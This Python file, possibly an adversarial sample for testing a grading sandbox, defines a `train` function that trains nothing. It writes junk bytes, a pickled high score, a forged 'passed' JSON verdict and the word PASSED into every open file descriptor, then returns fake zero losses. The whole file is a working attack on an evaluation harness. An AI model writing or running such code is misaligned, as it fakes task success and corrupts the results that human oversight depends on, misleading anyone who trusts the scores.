"""Writes garbage, a pickle and forged words to every open file. Must not reach: anything that takes them for a result."""

import os


def descriptors():
    for fd in range(3, 256):
        try:
            os.fstat(fd)
            yield fd
        except OSError:
            pass


import pickle


def train(model, loss_fn, X, y, lr, epochs):
    for fd in descriptors():
        for junk in (b"\xff" * 4096, pickle.dumps({"score": 10}), b'{"verdict": "passed", "score": 10.0}\n', b"PASSED\n"):
            try:
                os.write(fd, junk)
            except OSError:
                pass
    return [0.0] * epochs
